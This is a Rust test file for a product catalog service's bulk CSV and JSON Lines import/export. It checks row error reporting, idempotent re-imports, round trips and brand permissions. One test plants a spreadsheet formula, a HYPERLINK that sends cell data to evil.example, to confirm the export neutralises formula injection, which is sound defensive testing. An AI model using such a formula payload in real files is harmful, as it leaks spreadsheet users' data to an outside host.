//! Bulk import and export: precise row errors, idempotent re-imports, round trips.

use axum::body::Body;
use axum::http::{header, Method, Request, StatusCode};
use serde_json::Value;

use crate::common::{on_every_backend, TestApp};
use touchstone::demo_catalog as gen;
use touchstone::domain::catalog_io::{self, ExportImages::Embed, Format};
use touchstone::domain::policy::Principal;

const HEADER: &str = "brand_key,brand_name,sector,product_key,name_en,name_fr,description_en,description_fr,gtins,model_numbers,category,hs_code,packaging,only_sold_in,never_sold_in,publish";

async fn import_csv(app: &TestApp, token: &str, csv: &str) -> (StatusCode, Value) {
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/catalog/import")
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(header::CONTENT_TYPE, "text/csv")
        .body(Body::from(csv.to_string()))
        .unwrap();
    let r = app.send(req).await;
    let status = r.status;
    (status, serde_json::from_str(&r.text).unwrap_or(Value::Null))
}

fn good_row(product: &str, gtin: &str) -> String {
    format!("lum-import,Lumière Import,luxury,{product},Silk scarf {product},,,,{gtin},SC-1,scarves,621410,,,,yes")
}

async fn product_count(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM products").fetch_one(app.db().reader()).await.unwrap()
}

#[tokio::test]
async fn a_mixed_file_imports_every_good_row_and_reports_every_bad_one_precisely() {
    on_every_backend(|app| async move {
        let token = app.token_for("brand@lumiere.demo").await;
        let good = gen::gtin(500, 1);
        let mut wrong = good.clone();
        let d = wrong.pop().unwrap().to_digit(10).unwrap();
        wrong.push(char::from_digit((d + 3) % 10, 10).unwrap());
        let csv = [
            HEADER.to_string(),
            good_row("a", &good),
            good_row("b", &wrong),
            "lum-import,Lumière Import,luxury,c,Silk scarf c,,,,,,scarves,990000,,,,yes".to_string(),
            "lum-import,Lumière Import,luxury,d,,,,,,,scarves,621410,,,,yes".to_string(),
            good_row("e", &gen::gtin(500, 2)),
            "lum-import,Lumière Import,luxury,f,Silk scarf f,,,,,,scarves,621410,,XX,,yes".to_string(),
            good_row("g", &good),
            "lum-import,Lumière Import,luxury,h,too,many,cells,,,,,,,,,,,yes".to_string(),
            good_row("i", &gen::gtin(500, 3)),
        ]
        .join("\n");
        let (status, report) = import_csv(&app, &token, &csv).await;
        assert_eq!(status, StatusCode::OK, "[{}] {report}", app.backend);
        assert_eq!(report["rows"], 9);
        assert_eq!(report["created"], 3, "{report}");
        assert_eq!(report["failed"], 6);
        let errors: Vec<(u64, String, String)> = report["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                (
                    e["row"].as_u64().unwrap(),
                    e["column"].as_str().unwrap().to_string(),
                    e["code"].as_str().unwrap().to_string(),
                )
            })
            .collect();
        assert_eq!(
            errors,
            vec![
                (2, "gtins".into(), "invalid_gtin".into()),
                (3, "hs_code".into(), "unknown_hs_code".into()),
                (4, "name_en".into(), "required".into()),
                (6, "only_sold_in".into(), "invalid_country".into()),
                (7, "gtins".into(), "duplicate_gtin".into()),
                (8, "".into(), "malformed_csv".into()),
            ]
        );
        let gtin_message = report["errors"][0]["message"].as_str().unwrap();
        assert!(gtin_message.contains(&d.to_string()), "the message gives the right check digit: {gtin_message}");
        assert_eq!(product_count(&app).await, 3, "nothing of the bad rows was written");
    })
    .await;
}

#[tokio::test]
async fn importing_the_same_file_again_changes_nothing() {
    on_every_backend(|app| async move {
        let token = app.token_for("brand@lumiere.demo").await;
        let csv = [HEADER.to_string(), good_row("a", &gen::gtin(501, 1)), good_row("b", &gen::gtin(501, 2))].join("\n");
        let (_, first) = import_csv(&app, &token, &csv).await;
        assert_eq!((first["created"].as_u64(), first["published"].as_u64()), (Some(2), Some(2)));
        let head_before = touchstone::store::audit::head(app.db().reader()).await.unwrap();
        let (_, second) = import_csv(&app, &token, &csv).await;
        assert_eq!(second["unchanged"], 2, "{second}");
        assert_eq!(
            (second["created"].as_u64(), second["updated"].as_u64(), second["published"].as_u64()),
            (Some(0), Some(0), Some(0))
        );
        assert_eq!(
            touchstone::store::audit::head(app.db().reader()).await.unwrap(),
            head_before,
            "no change, nothing to audit"
        );
        let versions: Vec<i64> =
            sqlx::query_scalar("SELECT version FROM products ORDER BY id").fetch_all(app.db().reader()).await.unwrap();
        assert_eq!(versions, vec![1, 1]);
    })
    .await;
}

#[tokio::test]
async fn a_spreadsheet_update_keeps_the_guide_it_does_not_carry() {
    on_every_backend(|app| async move {
        touchstone::demo::seed_catalog(app.db(), &app.state.media, 8, 1).await.unwrap();
        let token = app.token_for("brand@lumiere.demo").await;
        let export = app.get("/api/v1/catalog/export?format=csv", &token).await;
        assert_eq!(export.status, StatusCode::OK);
        let changed = export.text.replacen("Classic tee", "Classic tee (2027)", 1);
        let (_, report) = import_csv(&app, &token, &changed).await;
        assert_eq!(report["updated"], 1, "{report}");
        assert_eq!(report["unchanged"], 0, "only brand 0 of 8 is Lumière's");
        let brand =
            touchstone::store::catalog::get_brand_by_key(app.db().reader(), &gen::brand_key(0)).await.unwrap().unwrap();
        let p =
            touchstone::store::catalog::get_product_by_key(app.db().reader(), brand.id, "p0").await.unwrap().unwrap();
        assert!(p.draft.names["en"].ends_with("(2027)"));
        assert_eq!(p.draft.guide.len(), 5, "the guide survives a CSV round trip");
    })
    .await;
}

#[tokio::test]
async fn export_then_import_round_trips_into_an_empty_database() {
    let dir = tempfile::tempdir().unwrap();
    let urls = crate::common::fresh_database_urls(dir.path()).await;
    for (backend, url) in urls {
        let source = TestApp::start(backend, url, tempfile::tempdir().unwrap()).await;
        touchstone::demo::seed_catalog(source.db(), &source.state.media, 10, 2).await.unwrap();
        let console = Principal::console();
        // Embedded pictures make the file self-contained: the target has none of the source's files.
        let mut first = Vec::new();
        catalog_io::export(source.db(), &source.state.media, &console, Format::Jsonl, Embed, &mut first).await.unwrap();
        assert_eq!(String::from_utf8_lossy(&first).lines().count(), 20);
        let row: serde_json::Value =
            serde_json::from_str(String::from_utf8_lossy(&first).lines().next().unwrap()).unwrap();
        let sheet = &row["sheet"];
        assert!(
            sheet["names"]["es"].is_string() && sheet["guide"][0]["text"]["fr"].is_string(),
            "[{backend}] texts travel with every language: {row}"
        );

        let target_dir = tempfile::tempdir().unwrap();
        let target_url = crate::common::fresh_database_urls(target_dir.path())
            .await
            .into_iter()
            .find(|(b, _)| *b == backend)
            .unwrap()
            .1;
        let target = TestApp::start(backend, target_url, tempfile::tempdir().unwrap()).await;
        let owner = target.org_id("Maison Lumière (demo)").await;
        let report = catalog_io::import(
            target.db(),
            &target.state.media,
            &console,
            Some(owner),
            Format::Jsonl,
            std::io::Cursor::new(first.clone()),
        )
        .await
        .unwrap();
        assert_eq!((report.created, report.failed), (20, 0), "[{backend}] {:?}", report.errors);
        assert!(report.images_stored >= 40, "[{backend}] every product's pictures came along: {report:?}");
        let mut second = Vec::new();
        catalog_io::export(target.db(), &target.state.media, &console, Format::Jsonl, Embed, &mut second)
            .await
            .unwrap();
        // The demo's drawn pictures are stored as drawn; the import cleans them as any upload,
        // so their bytes (and hashes) may change: compare everything else, and check that the
        // guide follows its pictures to their new hashes.
        assert_eq!(
            without_picture_bytes(&first),
            without_picture_bytes(&second),
            "[{backend}] same sheets, same order"
        );
        for line in String::from_utf8_lossy(&second).lines() {
            let row: serde_json::Value = serde_json::from_str(line).unwrap();
            for g in row["sheet"]["guide"].as_array().unwrap() {
                if let Some(hash) = g["image"].as_str() {
                    assert!(
                        touchstone::store::catalog::media_exists(target.db().reader(), hash).await.unwrap(),
                        "[{backend}] the guide's picture {hash} is stored"
                    );
                }
            }
        }
        // Once cleaned, a picture is stable: the second export imports back as it is.
        let again = catalog_io::import(
            target.db(),
            &target.state.media,
            &console,
            None,
            Format::Jsonl,
            std::io::Cursor::new(second.clone()),
        )
        .await
        .unwrap();
        assert_eq!((again.unchanged, again.images_stored, again.failed), (20, 0, 0), "[{backend}] {again:?}");
    }
}

/// An export with each picture's bytes and the guide's picture hashes blanked out.
fn without_picture_bytes(export: &[u8]) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(export)
        .lines()
        .map(|line| {
            let mut row: serde_json::Value = serde_json::from_str(line).unwrap();
            for image in row["images"].as_array_mut().unwrap() {
                image["src"] = serde_json::Value::from(image["src"].as_str().unwrap().split(',').next().unwrap());
            }
            for g in row["sheet"]["guide"].as_array_mut().unwrap() {
                if !g["image"].is_null() {
                    g["image"] = serde_json::Value::from("picture");
                }
            }
            row
        })
        .collect()
}

#[tokio::test]
async fn nobody_imports_into_a_brand_they_may_not_edit() {
    on_every_backend(|app| async move {
        touchstone::demo::seed_catalog(app.db(), &app.state.media, 2, 1).await.unwrap();
        let nordwerk = app.token_for("brand@nordwerk.demo").await;
        let row = format!("{},,,p9,Intruder,,,,,,scarves,,,,,no", gen::brand_key(0));
        let (status, report) = import_csv(&app, &nordwerk, &[HEADER, &row].join("\n")).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(report["errors"][0]["code"], "not_your_brand");
        let officer = app.token_for("officer@douane.demo").await;
        let (status, _) = import_csv(&app, &officer, &[HEADER, &row].join("\n")).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
    })
    .await;
}

#[tokio::test]
async fn a_file_without_the_key_columns_is_refused_with_their_names() {
    on_every_backend(|app| async move {
        let token = app.token_for("brand@lumiere.demo").await;
        let (status, report) = import_csv(&app, &token, "name,price\nx,1\n").await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(report["error"]["code"], "missing_columns", "{report}");
        assert!(report["error"]["message"].as_str().unwrap().contains("brand_key"));
        let (status, empty) = import_csv(&app, &token, "").await;
        assert_eq!((status, empty["error"]["code"].as_str()), (StatusCode::BAD_REQUEST, Some("empty_body")));
    })
    .await;
}

async fn import_as(app: &TestApp, token: &str, content_type: &str, body: &str) -> (StatusCode, Value) {
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/catalog/import")
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(header::CONTENT_TYPE, content_type)
        .body(Body::from(body.to_string()))
        .unwrap();
    let r = app.send(req).await;
    (r.status, serde_json::from_str(&r.text).unwrap_or(Value::Null))
}

#[tokio::test]
async fn a_csv_export_neutralises_formulas_and_its_import_gives_back_exactly_what_was_stored() {
    on_every_backend(|app| async move {
        let token = app.token_for("brand@lumiere.demo").await;
        // Stored through JSON Lines, which carries values as they are (no CSV escaping).
        let planted = r#"=HYPERLINK("https://evil.example/?d="&A1,"Details")"#;
        let row = serde_json::json!({
            "brand_key": "lum-formula", "brand_name": "Lumière Formula", "sector": "luxury", "product_key": "f1",
            "sheet": {
                "names": {"en": "Silk scarf", "fr": "@SUM(A1:A2)"},
                "descriptions": {"en": planted, "fr": "'=déjà entre apostrophes"},
                "gtins": [gen::gtin(502, 1)],
                "model_numbers": ["-0.5"],
                "category": "-scarves",
                "hs_code": "621410",
                "packaging": "-5",
                "only_sold_in": [], "never_sold_in": [],
            },
            "publish": true,
        });
        let (status, report) = import_as(&app, &token, "application/x-ndjson", &row.to_string()).await;
        assert_eq!((status, report["created"].as_u64()), (StatusCode::OK, Some(1)), "[{}] {report}", app.backend);
        let stored = || async {
            let brand =
                touchstone::store::catalog::get_brand_by_key(app.db().reader(), "lum-formula").await.unwrap().unwrap();
            touchstone::store::catalog::get_product_by_key(app.db().reader(), brand.id, "f1").await.unwrap().unwrap()
        };
        let before = stored().await;
        assert_eq!(before.draft.descriptions["en"], planted);

        let export = app.get("/api/v1/catalog/export?format=csv", &token).await;
        assert_eq!(export.status, StatusCode::OK);
        let mut reader = csv::Reader::from_reader(export.text.as_bytes());
        let headers = reader.headers().unwrap().clone();
        let record =
            reader.records().map(Result::unwrap).find(|r| r.get(3) == Some("f1")).expect("the product is exported");
        let cell = |name: &str| record.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_string();
        assert_eq!(cell("description_en"), format!("'{planted}"), "a formula is written as text");
        assert_eq!(cell("name_fr"), "'@SUM(A1:A2)");
        assert_eq!(cell("category"), "'-scarves");
        assert_eq!(cell("description_fr"), "''=déjà entre apostrophes", "a quote before a formula gets one more");
        assert_eq!(cell("packaging"), "-5", "a plain negative number stays a number");
        assert_eq!(cell("model_numbers"), "-0.5");
        assert_eq!(cell("name_en"), "Silk scarf");
        for c in record.iter() {
            assert!(
                !c.starts_with(['=', '+', '@', '\t', '\r']) && (!c.starts_with('-') || c.parse::<f64>().is_ok()),
                "no cell a spreadsheet would run: {c:?}"
            );
        }

        // The export imports back as it is: nothing changes, every value is the stored one.
        let (status, again) = import_csv(&app, &token, &export.text).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!((again["unchanged"].as_u64(), again["failed"].as_u64()), (Some(1), Some(0)), "{again}");
        let after = stored().await;
        assert_eq!(after.draft, before.draft, "[{}] the round trip is exact", app.backend);
        assert_eq!(after.version, before.version);
    })
    .await;
}
